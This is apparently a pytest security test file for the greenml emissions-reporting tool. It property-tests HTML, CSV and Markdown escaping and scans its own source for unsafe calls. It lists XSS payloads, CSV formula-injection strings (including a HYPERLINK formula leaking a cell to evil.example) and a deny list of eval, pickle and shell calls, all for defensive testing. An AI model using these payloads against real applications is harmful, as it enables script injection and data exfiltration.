"""Security faults that need no MLflow server: hostile user text in the report (property
based, with hypothesis), unsafe parsing anywhere in greenml's source, the journal's file
modes, and ``greenml sync`` given a file that is not a journal.

The report's user text is what MLflow hands back and anyone who can log to the store
controls: run names, experiment names, the ``mlflow.user`` tag, the user's own tags (keys
and values, through ``--group-by tag:<key>``) and greenml's params and tags (location, GPU
model, grid source, status...). The Summaries here are built by hand, the way
``greenml.report.summarize`` shapes them (see tests/unit/test_report_render.py), so that
each example renders in milliseconds.
"""

from __future__ import annotations

import ast
import csv
import html as html_lib
import io
import json
import os
import random
import re
import stat
import subprocess
import sys
from collections.abc import Mapping
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, seed, settings
from hypothesis import strategies as st

import greenml
from greenml.report.html import to_html
from greenml.report.markdown import to_markdown
from greenml.report.render import CSV_COLUMNS, to_csv, to_json
from greenml.testing import ConstantMeter, ManualClock

GREENML = Path(greenml.__file__).resolve().parent

# -- hostile text ---------------------------------------------------------------------------

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)' x='",
    "javascript:alert(document.cookie)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "&amp;&lt;b&gt;",
    "</td></tr></table></section><h1>x</h1>",
    "<!-- x -->",
    "--><script>x</script>",
    "<![CDATA[<b>x</b>]]>",
    "<style>*{display:none}</style>",
    '<a href="https://evil.example">x</a>',
    "line 1\nline 2\r\nline 3",
    "a|b||c",
    "# heading",
    "[x](javascript:alert(1))",
    "![i](https://evil.example/t.png)",
    "`code` **bold** _em_ ~~s~~ $x$",
    "ünïcödé 日本語 🚀 \u202egnp.exe",
    "\x00\x07\x1b[31mred\x1b[0m",
    "\"quoted\", 'single'",
    "",
)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # what safe_cell's docstring names


def _joined(parts: tuple[str, str, str]) -> str:
    return "".join(parts)


TEXT = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(max_size=24),
    st.tuples(
        st.sampled_from(("", *FORMULA_START, " ", "<", "&", '"', "'", "\n", "#", "|")),
        st.text(max_size=12),
        st.sampled_from(HOSTILE),
    ).map(_joined),
)

#: Fields of a run row that come from MLflow (run info, params, tags): all in the CSV.
RUN_TEXT = (
    "run_name",
    "experiment",
    "user",
    "location",
    "scope",
    "measurement",
    "gpu_model",
    "grid_source",
    "status",
)
#: Other user text: the tag key and value of --group-by tag:<key>, the --experiment filter,
#: --organisation, a factor's source, and a run without greenml data.
OTHER_TEXT = (
    "tag_key",
    "tag_value",
    "experiment_filter",
    "organisation",
    "price_source",
    "other_run_name",
    "other_experiment",
)
FIELDS = RUN_TEXT + OTHER_TEXT
TEXTS = st.fixed_dictionaries({f: TEXT for f in FIELDS})
HARMLESS = {f: "x" for f in FIELDS}

R1, R2, NOG = "a" * 32, "b" * 32, "c" * 32


def summary(t: Mapping[str, str], *, charts: bool) -> dict:
    """A Summary of two included runs carrying the user text ``t`` (the first one in every
    field, the second one in its name and location), and a run without greenml data.
    Without ``charts`` every figure a chart draws is zero or missing, so no chart is drawn
    (matplotlib costs ~0.2 s a chart) while every table still shows the text.

    Figures, by hand: run 1 is 10 GPU-h, 12 kWh, 4.56 kg, 30 USD; run 2 is 5 GPU-h, 6 kWh,
    2.28 kg, 15 USD; together 18 kWh = 0.018 MWh, 6.84 kg = 0.00684 t, 45 USD."""
    energy = 1.0 if charts else 0.0
    r1 = {
        "run_id": R1,
        "run_name": t["run_name"],
        "experiment": t["experiment"],
        "user": t["user"],
        "start_utc": "2026-02-10T09:30:00+00:00",
        "month": "2026-02",
        "location": t["location"],
        "zone": None,
        "provider": None,
        "region": None,
        "scope": t["scope"],
        "measurement": t["measurement"],
        "gpu_model": t["gpu_model"],
        "gpu_count": 8,
        "gpu_hours": 10.0,
        "duration_s": 4500.0,
        "it_energy_kwh": 10.0,
        "energy_kwh": 12.0,
        "co2e_kg": 4.56,
        "co2e_market_kg": 4.56,
        "cost_usd": 30.0 if charts else None,
        "embodied_co2e_kg": None,
        "pue": 1.2,
        "grid_intensity_g_per_kwh": 380.0,
        "grid_source": t["grid_source"],
        "basis": "unknown",
        "hosts": 1,
        "simulated": False,
        "included": True,
        "has_greenml": True,
        "status": t["status"],
        "flags": [],
    }
    r2 = {
        **r1,
        "run_id": R2,
        "run_name": t["tag_value"],
        "location": t["other_run_name"],
        "gpu_hours": 5.0,
        "duration_s": 2250.0,
        "it_energy_kwh": 5.0,
        "energy_kwh": 6.0,
        "co2e_kg": 2.28,
        "co2e_market_kg": 2.28,
        "cost_usd": 15.0 if charts else None,
    }
    nog = {
        **{k: None for k in r1},
        "run_id": NOG,
        "run_name": t["other_run_name"],
        "experiment": t["other_experiment"],
        "start_utc": "2026-02-11T12:00:00+00:00",
        "month": "2026-02",
        "simulated": False,
        "included": False,
        "has_greenml": False,
        "status": "finished",
        "flags": [],
    }
    figures = {"gpu_hours": 15.0, "energy_mwh": 0.018, "co2e_t": 0.00684, "co2e_market_t": 0.00684}
    return {
        "schema_version": 1,
        "header": {
            "organisation": t["organisation"],
            "period": {"since": "2026-01-01", "until": "2026-03-31"},
            "generated_utc": "2026-04-01T08:30:00+00:00",
            "greenml_version": "0.1.0",
            "tracking_uri": "http://***@mlflow.example:5000",
            "experiments": [t["experiment_filter"], t["experiment"]],
            "runs": 2,
            "runs_considered": 3,
            "inputs_sha256": "ab12" * 16,
            "group_by": "tag:" + t["tag_key"],
            "include_simulated": False,
        },
        "totals": {
            "runs": 2,
            "gpu_hours": 15.0,
            "it_energy_mwh": 0.015,
            "energy_mwh": 0.018,
            "co2e_t": 0.00684,
            "co2e_market_t": 0.00684,
            "cost_usd": 45.0 if charts else None,
            "runs_without_price": 0 if charts else 2,
            "embodied_co2e_t": None,
        },
        "esrs_e1_5": {
            "energy_mwh": 0.018,
            "fossil_mwh": 0.0,
            "nuclear_mwh": 0.0,
            "renewable_mwh": 0.0,
            "unknown_mwh": 0.018,
            "mix_sources": [],
            "zones_without_own_mix": [],
            "market_instruments": [{"run_id": R1, "co2e_t": 0.00456, "co2e_market_t": 0.00456}],
        },
        "scopes": [
            {
                "scope": "scope2",
                "label": "Scope 2 (own or colocated hardware)",
                "runs": 0,
                "gpu_hours": 0.0,
                "energy_mwh": 0.0,
                "co2e_t": 0.0,
                "co2e_market_t": 0.0,
                "cost_usd": None,
            },
            {
                "scope": "scope3-cat1",
                "label": "Scope 3 Category 1 (cloud services)",
                "runs": 2,
                **figures,
                "cost_usd": 45.0 if charts else None,
            },
        ],
        "basis": [{"basis": "unknown", "label": "no factor", "co2e_t": 0.00684, "runs": 2}],
        "basis_note": "Location-based CO2e is shown by emission-factor basis.",
        "groups": [
            {
                "group": t["tag_value"],
                "runs": 1,
                **figures,
                "energy_mwh": 0.012 * energy,
                "cost_usd": 30.0 if charts else None,
            },
            {
                "group": "(no tag)",
                "runs": 1,
                **figures,
                "energy_mwh": 0.006 * energy,
                "cost_usd": 15.0 if charts else None,
            },
        ],
        "months": [
            {
                "month": "2026-02",
                "runs": 2,
                "energy_mwh": 0.018,
                "co2e_t": 0.00684,
                "cost_usd": 45.0 if charts else None,
                "co2e_t_by_location": {
                    t["location"]: 0.00456 * energy,
                    "other:" + t["other_run_name"]: 0.00228 * energy,
                },
            }
        ],
        "top_co2e": [r1, r2],
        "top_cost": [r1, r2] if charts else [],
        "data_quality": {
            "energy_share": {"counter": 1.0, "sampled": 0.0, "estimated": 0.0, "imported": 0.0},
            "assumed_location": [R1],
            "missing_price": [] if charts else [R1, R2],
            "without_greenml": [
                {
                    "run_id": NOG,
                    "run_name": t["other_run_name"],
                    "experiment": t["other_experiment"],
                }
            ],
            "simulated": [],
            "simulated_excluded": True,
            "incomplete": [{"run_id": R2, "missing": ["embodied_co2e_kg"]}],
            "uncertainty": "Counters are within 0.5 %.",
            "assumptions": ["Energy is facility energy: IT energy x PUE."],
        },
        "what_if": [
            {
                "run_id": R1,
                "provider": "aws",
                "location": t["location"],
                "best_location": "aws:eu-north-1",
                "co2e_t": 0.00456,
                "best_co2e_t": 0.0001,
                "cost_usd": 30.0,
                "best_cost_usd": 28.0,
            }
        ],
        "what_if_note": "HYPOTHETICAL. The same facility energy in the provider's cleanest region.",
        "sources": [
            {
                "factor": "grid_intensity",
                "value": 380.0,
                "unit": "gCO2e/kWh",
                "zone": t["location"],
                "year": 2022,
                "source": t["grid_source"],
                "licence": "public domain",
                "basis": "unknown",
                "runs": [R1, R2],
            },
            {
                "factor": "price",
                "value": 32.77,
                "unit": "USD/h",
                "zone": t["location"],
                "year": 2026,
                "source": t["price_source"],
                "licence": None,
                "as_of": "2026-01-21",
                "runs": [R1],
            },
        ],
        "runs": [r1, r2, nog],
    }


# -- reading HTML back ----------------------------------------------------------------------


class Elements(HTMLParser):
    """Every start tag with its attributes, split into those outside and inside inline
    SVG, and the text content."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.outside: list[tuple[str, tuple[tuple[str, str | None], ...]]] = []
        self.svg_tags: set[str] = set()
        self.svg_attrs: set[tuple[str, str]] = set()
        self.data: list[str] = []
        self._svg_depth = 0

    def handle_starttag(self, tag, attrs):
        self._start(tag, attrs)
        if tag == "svg":
            self._svg_depth += 1

    def handle_startendtag(self, tag, attrs):
        self._start(tag, attrs)

    def handle_endtag(self, tag):
        if tag == "svg":
            self._svg_depth -= 1

    def handle_data(self, data):
        self.data.append(data)

    def handle_comment(self, data):
        self.outside.append(("!--", ()))  # a comment is markup the page did not mean

    def handle_pi(self, data):
        self.outside.append(("?", ()))

    def unknown_decl(self, data):
        self.outside.append(("<![", ()))

    def _start(self, tag, attrs):
        if self._svg_depth or tag == "svg":
            self.svg_tags.add(tag)
            self.svg_attrs.update((tag, name) for name, _ in attrs)
        else:
            self.outside.append((tag, tuple(attrs)))


def elements(text: str) -> Elements:
    parser = Elements()
    parser.feed(text)
    parser.close()
    return parser


@pytest.fixture(scope="module")
def harmless_html() -> tuple[Elements, Elements]:
    """The pages of the harmless Summary, without and with charts: the structure every
    hostile one must have."""
    return elements(to_html(summary(HARMLESS, charts=False))), elements(
        to_html(summary(HARMLESS, charts=True))
    )


def _html_is_inert(page: str, texts: Mapping[str, str], baseline: Elements, seed: str) -> None:
    got = elements(page)
    # outside the charts: the same elements, in the same order, with the same attributes
    # and values as the harmless page; the user's text made none of them
    assert got.outside == baseline.outside, (
        f"{seed}: the page's markup differs from the harmless page's: "
        f"{sorted(set(got.outside) ^ set(baseline.outside), key=str)[:5]}"
    )
    # inside the charts (glyphs are drawn as paths, so their number follows the text): the
    # same kinds of element and attribute
    assert got.svg_tags == baseline.svg_tags, (seed, got.svg_tags ^ baseline.svg_tags)
    assert got.svg_attrs == baseline.svg_attrs, (seed, got.svg_attrs ^ baseline.svg_attrs)
    # the text round-trips: escaped in the source, itself once parsed
    text = "\x00".join(got.data)
    for field in ("run_name", "experiment", "user", "gpu_model", "grid_source", "status"):
        value = texts[field]
        if value:
            assert html_lib.escape(value, quote=True) in page, (seed, field, value)
            assert value in text, (seed, field, value)


#: hypothesis's seed: the same examples on every run (a failure names it and the texts)
SEED = 20260414


def _seed(texts: Mapping[str, str]) -> str:
    return f"hypothesis seed {SEED}, texts={dict(texts)!r}"


@settings(max_examples=60, deadline=None, database=None)
@seed(SEED)
@given(texts=TEXTS)
def test_html_user_text_makes_no_markup(texts, harmless_html):
    """hypothesis: any run, experiment, user, tag, param or organisation text renders as
    text; the page's markup is the harmless page's, element for element."""
    page = to_html(summary(texts, charts=False))
    _html_is_inert(page, texts, harmless_html[0], _seed(texts))
    assert "<svg" not in page  # this variant draws no chart (see summary())


@pytest.mark.filterwarnings("ignore:Glyph .* missing from font")  # a box is drawn instead
@settings(
    max_examples=6,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow],
)
@seed(SEED)
@given(texts=TEXTS)
def test_html_with_charts_user_text_makes_no_markup(texts, harmless_html):
    """The same with the three charts drawn (user text in their labels, alt text and
    aria-label); few examples, as each page takes ~0.7 s of matplotlib."""
    page = to_html(summary(texts, charts=True))
    assert page.count("<svg") == 3, _seed(texts)
    _html_is_inert(page, texts, harmless_html[1], _seed(texts))
    for label in re.findall(r'aria-label="([^"]*)"', page):
        assert "<" not in label and ">" not in label, (_seed(texts), label)


def _check_csv(texts: Mapping[str, str]) -> None:
    s = summary(texts, charts=True)
    text = to_csv(s)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    seed = _seed(texts)
    assert rows[0] == list(CSV_COLUMNS) and len(CSV_COLUMNS) == 28, seed
    assert len(rows) == 4, (seed, len(rows), text)  # header + the three runs, whatever the text
    assert all(len(r) == 28 for r in rows), (seed, [len(r) for r in rows])
    by_id = {r[0]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    for run in s["runs"]:
        cells = by_id[run["run_id"]]
        for column in RUN_TEXT:
            value = run[column]
            if value is None:
                assert cells[column] == "", (seed, column)
                continue
            # OWASP's rule, written out: a leading = + - @ tab or CR gets an apostrophe
            expected = "'" + value if value[:1] in ("=", "+", "-", "@", "\t", "\r") else value
            assert cells[column] == expected, (seed, column, value, cells[column])
            assert not cells[column].startswith(FORMULA_START), (seed, column, cells[column])
    back = json.loads(to_json(s))
    assert [r["run_name"] for r in back["runs"]] == [r["run_name"] for r in s["runs"]], seed
    assert back["header"]["group_by"] == "tag:" + texts["tag_key"], seed


def _no_cr(text: str) -> str:
    return text.replace("\r", "")


@settings(max_examples=60, deadline=None, database=None)
@seed(SEED)
@given(texts=st.fixed_dictionaries({f: TEXT.map(_no_cr) for f in FIELDS}))
def test_csv_cells_from_user_text_are_neutralised_and_rows_keep_their_columns(texts):
    """A cell that would start a formula (= + - @ tab) gets a leading apostrophe; every
    row parses to the header's 28 columns; JSON gives the text back as it was. (Text with
    a carriage return: the next test.)"""
    _check_csv(texts)


@settings(max_examples=30, deadline=None, database=None)
@example(texts={**HARMLESS, "run_name": "build\rv2", "experiment": "\r=1+1"})
@seed(SEED)
@given(texts=TEXTS)
def test_csv_rows_keep_their_columns_with_a_carriage_return_in_user_text(texts):
    _check_csv(texts)


def _markdown_it():
    try:
        from markdown_it import MarkdownIt
    except ImportError:
        return None
    return MarkdownIt("commonmark", {"html": True}).enable("table")


def _md_tags(text: str) -> list[str] | None:
    """The tags a CommonMark renderer that lets raw HTML through makes of ``text`` (None
    without markdown-it-py)."""
    renderer = _markdown_it()
    if renderer is None:
        return None
    return re.findall(r"<(/?[a-zA-Z][a-zA-Z0-9]*)", renderer.render(text))


@pytest.fixture(scope="module")
def harmless_markdown() -> tuple[list[str], list[str] | None]:
    text = to_markdown(summary(HARMLESS, charts=True))
    assert "<" not in text  # greenml's Markdown writes no tag of its own
    return _md_structure(text), _md_tags(text)


CELL_BAR = re.compile(r"(?<!\\)\|")  # a | that is not escaped: a table cell's edge


def _md_structure(text: str) -> list[str]:
    """The Markdown's block structure: for each line, its kind (heading level, list item,
    quote, table row with its cell count, text or blank)."""
    kinds = []
    for line in text.splitlines():
        if m := re.match(r"#{1,6} ", line):
            kinds.append(m.group(0))
        elif line.startswith("| "):
            kinds.append(f"row:{len(CELL_BAR.split(line)) - 2}")
        elif line.startswith(("- ", "> ")):
            kinds.append(line[:2])
        else:
            kinds.append("text" if line else "")
    return kinds


@settings(max_examples=60, deadline=None, database=None)
@seed(SEED)
@given(texts=TEXTS)
def test_markdown_user_text_makes_no_markup(texts, harmless_markdown):
    """Every line keeps the harmless document's kind (no heading, list, quote or extra
    table cell from user text); rendered by a CommonMark renderer that lets raw HTML
    through, the tags are the harmless document's."""
    seed = _seed(texts)
    text = to_markdown(summary(texts, charts=True))
    base_kinds, base_tags = harmless_markdown
    assert _md_structure(text) == base_kinds, seed
    assert "<" not in text, seed  # & < > become entities
    tags = _md_tags(text)
    assert tags == base_tags, (seed, sorted(set(tags or ()) ^ set(base_tags or ())))


# -- no unsafe parsing in greenml's source ----------------------------------------------------

#: Calls that run code or deserialise objects from bytes: never on data greenml reads.
UNSAFE_CALLS = {
    "eval",
    "exec",
    "compile",
    "builtins.eval",
    "builtins.exec",
    "builtins.compile",
    "os.system",
    "os.popen",
    "pandas.read_pickle",
    "torch.load",
    "joblib.load",
    "jsonpickle.decode",
    "yaml.unsafe_load",
    "yaml.unsafe_load_all",
    "yaml.full_load",
    "yaml.full_load_all",
}
PICKLERS = ("pickle", "cPickle", "_pickle", "marshal", "dill", "cloudpickle", "shelve")
SAFE_LOADERS = {"SafeLoader", "CSafeLoader", "BaseLoader", "CBaseLoader"}
SUBPROCESS = {
    "subprocess.run",
    "subprocess.call",
    "subprocess.check_call",
    "subprocess.check_output",
    "subprocess.Popen",
    "subprocess.getoutput",
    "subprocess.getstatusoutput",
    "asyncio.create_subprocess_shell",
}


def _aliases(tree: ast.AST) -> dict[str, str]:
    """Local name -> dotted name, from the module's imports (at any depth)."""
    names: dict[str, str] = {}
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            for a in node.names:
                names[a.asname or a.name.split(".")[0]] = (
                    a.name if a.asname else a.name.split(".")[0]
                )
        elif isinstance(node, ast.ImportFrom) and node.module and not node.level:
            for a in node.names:
                names[a.asname or a.name] = f"{node.module}.{a.name}"
    return names


def _dotted(node: ast.AST, aliases: Mapping[str, str]) -> str | None:
    parts = []
    while isinstance(node, ast.Attribute):
        parts.append(node.attr)
        node = node.value
    if not isinstance(node, ast.Name):
        return None
    parts.append(aliases.get(node.id, node.id))
    return ".".join(reversed(parts))


def unsafe_uses(source: str, filename: str = "<source>") -> list[str]:
    """What in ``source`` runs code or unpickles data: one ``file:line: what`` a finding."""
    tree = ast.parse(source, filename)
    aliases = _aliases(tree)
    found = []

    def hit(node: ast.AST, what: str) -> None:
        found.append(f"{filename}:{getattr(node, 'lineno', 0)}: {what}")

    for node in ast.walk(tree):
        if isinstance(node, (ast.Import, ast.ImportFrom)):
            mods = [a.name for a in node.names] if isinstance(node, ast.Import) else [node.module]
            for mod in mods:
                if mod and mod.split(".")[0] in PICKLERS:
                    hit(node, f"imports {mod}")
        if not isinstance(node, ast.Call):
            continue
        name = _dotted(node.func, aliases) or ""
        keywords = {k.arg: k.value for k in node.keywords if k.arg}
        if name in UNSAFE_CALLS:
            hit(node, f"calls {name}")
        if name.split(".")[0] in PICKLERS and name.rsplit(".", 1)[-1] in (
            "load",
            "loads",
            "open",
            "Unpickler",
        ):
            hit(node, f"calls {name}")
        if name in ("yaml.load", "yaml.load_all"):
            loader = keywords.get("Loader") or (node.args[1] if len(node.args) > 1 else None)
            loader_name = _dotted(loader, aliases) if loader is not None else None
            if loader_name is None or loader_name.rsplit(".", 1)[-1] not in SAFE_LOADERS:
                hit(node, f"calls {name} without a safe Loader")
        if name in SUBPROCESS or name.startswith("os.spawn"):
            shell = keywords.get("shell")
            if name.endswith(("getoutput", "getstatusoutput", "create_subprocess_shell")) or (
                shell is not None and not (isinstance(shell, ast.Constant) and not shell.value)
            ):
                hit(node, f"calls {name} through a shell")
        allow = keywords.get("allow_pickle")
        if name == "numpy.load" and isinstance(allow, ast.Constant) and allow.value:
            hit(node, "calls numpy.load(allow_pickle=True)")
    return found


def test_the_scan_finds_each_unsafe_pattern_and_passes_safe_ones():
    """The scanner itself, on code written to trip each rule (and code that must not)."""
    bad = """
import pickle as pk, marshal
from yaml import load as yload
import yaml, subprocess, os, shelve
from subprocess import run
eval(user)
exec(code)
compile(src, "f", "exec")
pk.loads(blob)
marshal.load(f)
yaml.load(text)
yaml.load(text, Loader=yaml.Loader)
yload(text, yaml.FullLoader)
subprocess.run("ls " + path, shell=True)
run(cmd, shell=flag)
os.system("ls")
shelve.open("db")
"""
    found = unsafe_uses(bad)
    lines = sorted({int(f.split(":")[1]) for f in found})
    # line 2 imports pickle and marshal, line 4 shelve; lines 6 to 17 make one call each
    assert lines == [2, 4, *range(6, 18)], found
    safe = """
import re, json, yaml, subprocess
re.compile(r"x")
json.loads(text)
yaml.safe_load(text)
yaml.load(text, Loader=yaml.SafeLoader)
subprocess.run(["cc", "-o", out, src], check=False)
subprocess.run(cmd, shell=False)
model.eval()
"""
    assert unsafe_uses(safe) == []


def test_greenml_source_has_no_eval_exec_unpickling_unsafe_yaml_or_shell():
    files = sorted(GREENML.rglob("*.py"))
    assert len(files) > 50, files  # the whole package, not an empty glob
    found = []
    for path in files:
        found += unsafe_uses(path.read_text(encoding="utf-8"), str(path.relative_to(GREENML)))
    assert found == [], "\n".join(found)


# -- the journal's file modes -----------------------------------------------------------------


@pytest.mark.parametrize("umask", [0o022, 0o002, 0o000], ids=["022", "002", "000"])
def test_journal_folder_and_files_are_user_only(umask, plain_cwd):
    """The journal holds run and experiment names and where the run logs: its folder is
    0700 and each file 0600, whatever the umask (0o022 would give 0755 and 0644)."""
    clock = ManualClock(0.0)
    old = os.umask(umask)
    try:
        for _ in range(2):  # the second run finds the folder there
            run = greenml.Tracker(
                meters=[ConstantMeter(clock, 300.0)],
                clock=clock,
                location="FR",
                log_to_mlflow=False,
                journal=True,
            ).start()
            clock.advance(10.0)
            run.stop()
    finally:
        os.umask(old)
    folder = plain_cwd / ".greenml" / "journal"
    files = sorted(folder.glob("*.jsonl"))
    assert len(files) == 2, files
    modes = {p.name: oct(stat.S_IMODE(p.stat().st_mode)) for p in [folder, *files]}
    assert modes == {folder.name: "0o700", **{p.name: "0o600" for p in files}}, (
        f"umask {umask:#o}: {modes}"
    )


# -- greenml sync on a file that is not a journal -----------------------------------------------


def _sync(journal_dir: Path) -> subprocess.CompletedProcess[str]:
    """The real command line, in a child process."""
    return subprocess.run(
        [sys.executable, "-m", "greenml.cli", "sync", "--journal-dir", str(journal_dir)],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )


def _garbage(seed: int) -> bytes:
    """Bytes no JSON parser takes: random, with a NUL and invalid UTF-8 up front."""
    return b"\x00\xff\xfe" + random.Random(seed).randbytes(2000)


def _not_json_first(seed: int) -> bytes:
    """A journal whose start record is lost (overwritten with text), with good records
    after it."""
    records = [
        {"t": "metrics", "ts": 1_700_000_000_000 + i, "step": i,
         "metrics": {"greenml/energy_kwh": 0.001 * i}, "seq": i + 1}
        for i in range(3)
    ]  # fmt: skip
    first = "not a record " + "".join(random.Random(seed).choices("abcdef", k=8))
    lines = [first, *(json.dumps(r) for r in records)]
    return ("\n".join(lines) + "\n").encode()


UNPARSEABLE = {"binary-garbage": _garbage, "first-record-not-json": _not_json_first}


@pytest.mark.parametrize("kind", sorted(UNPARSEABLE))
def test_sync_names_an_unparseable_journal_and_leaves_it_as_it_was(kind, tmp_path):
    seed = 1414
    path = tmp_path / "journal" / "not-a-journal.jsonl"
    path.parent.mkdir()
    data = UNPARSEABLE[kind](seed)
    path.write_bytes(data)
    out = _sync(path.parent)
    said = out.stdout + out.stderr
    assert "Traceback" not in said, (seed, said)
    assert f"{path.name}: refused: no start record" in out.stdout, (seed, said)
    assert path.read_bytes() == data, f"seed {seed}: sync changed the file"
    assert sorted(p.name for p in path.parent.iterdir()) == [path.name], seed


@pytest.mark.parametrize("kind", sorted(UNPARSEABLE))
def test_sync_exits_non_zero_on_an_unparseable_journal(kind, tmp_path):
    seed = 1414
    folder = tmp_path / "journal"
    folder.mkdir()
    (folder / "not-a-journal.jsonl").write_bytes(UNPARSEABLE[kind](seed))
    out = _sync(folder)
    assert out.returncode != 0, f"seed {seed}: exit {out.returncode}; {out.stdout}"


def test_an_mlflow_error_escaping_the_report_is_scrubbed(monkeypatch, tmp_path):
    # MLflow's exceptions quote the request URL: one that reaches the report command's own
    # handler must not print its user and password
    from click.testing import CliRunner
    from mlflow.exceptions import MlflowException

    import greenml.report.collect as collect
    from greenml.cli import main

    def refuse(*args, **kwargs):
        raise MlflowException(
            "API request to http://usr-FROBOZZ-7:pw-s3cr3t-PLUGH@127.0.0.1:1/api failed"
        )

    monkeypatch.setattr(collect, "load_runs", refuse)
    out = CliRunner().invoke(main, ["report", "-o", str(tmp_path / "r.html")])
    assert out.exit_code == 1, out.output
    assert "MLflow refused: API request to http://***@127.0.0.1:1/api" in out.output
    assert "FROBOZZ" not in out.output and "PLUGH" not in out.output
